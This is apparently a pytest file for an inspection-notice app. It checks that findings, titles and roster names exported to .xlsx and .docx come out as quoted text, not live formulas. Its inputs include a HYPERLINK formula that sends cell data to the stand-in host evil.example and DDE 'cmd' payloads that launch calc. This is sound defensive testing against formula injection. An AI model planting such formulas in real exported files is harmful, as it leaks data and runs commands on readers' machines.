"""Text a finding or a roster carries reaches the notice's .xlsx/.docx and the completion sheet
as inert text: no live formula (OWASP CSV injection), no 500 for a pasted control character."""

import datetime as dt
import io

import pytest
import time_machine
from docx import Document
from openpyxl import load_workbook

from inspections.dates import SHANGHAI
from inspections.services.notices import notice_compile, notice_publish
from inspections.services.selfcheck import campaign_create
from office.demo import demo_unit
from tests.conftest import login
from tests.inspections.factories import FindingFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看详情")'
DDE = "=cmd|' /C calc'!A0"


def _published(org, **finding):
    FindingFactory(staff=org.staff, **finding)
    notice = notice_compile(year=2026, week=47, unit=demo_unit(), acting_user=None)
    notice.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    notice.save()
    return notice_publish(notice=notice, acting_user=org.inspector.user)


def _cells(content: bytes) -> dict:
    book = load_workbook(io.BytesIO(content))
    return {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row}


def test_formulas_in_a_finding_and_the_title_come_back_as_quoted_text(org, monday):
    notice = _published(org, description=HYPERLINK, place=DDE)
    response = login(org.staff).get(f"/inspections/notices/{notice.pk}/download.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    for text in (HYPERLINK, DDE, notice.title):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
    assert not any(cell.data_type == "f" for cell in cells.values())


@pytest.mark.parametrize("field", ["description", "place"])
def test_a_pasted_word_line_break_downloads_as_a_newline(org, monday, field):
    notice = _published(org, **{field: "上班时间\x0b玩手机\x01游戏"})
    client = login(org.staff)
    xlsx = client.get(f"/inspections/notices/{notice.pk}/download.xlsx")
    docx = client.get(f"/inspections/notices/{notice.pk}/download.docx")
    assert xlsx.status_code == docx.status_code == 200
    assert "上班时间\n玩手机游戏" in _cells(xlsx.content)
    cells = [
        c.text for t in Document(io.BytesIO(docx.content)).tables for r in t.rows for c in r.cells
    ]
    assert "上班时间\n玩手机游戏" in cells


def test_a_roster_name_that_is_a_formula_is_text_in_the_completion_sheet(org):
    org.staff.name = HYPERLINK[:20]
    org.staff.save()
    org.section.name = "-2+3\x0b科"
    org.section.save()
    with time_machine.travel(dt.datetime(2026, 11, 23, 9, tzinfo=SHANGHAI), tick=False):
        campaign = campaign_create(
            title="自查自纠",
            intro="对照31项具体问题开展自查。",
            deadline=dt.date(2026, 11, 30),
            acting_user=org.inspector.user,
        )
        response = login(org.chief).get(f"/inspections/campaigns/{campaign.pk}/completion.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert (cells[HYPERLINK[:20]].data_type, cells[HYPERLINK[:20]].quotePrefix) == ("s", True)
    assert (cells["-2+3\n科"].data_type, cells["-2+3\n科"].quotePrefix) == ("s", True)
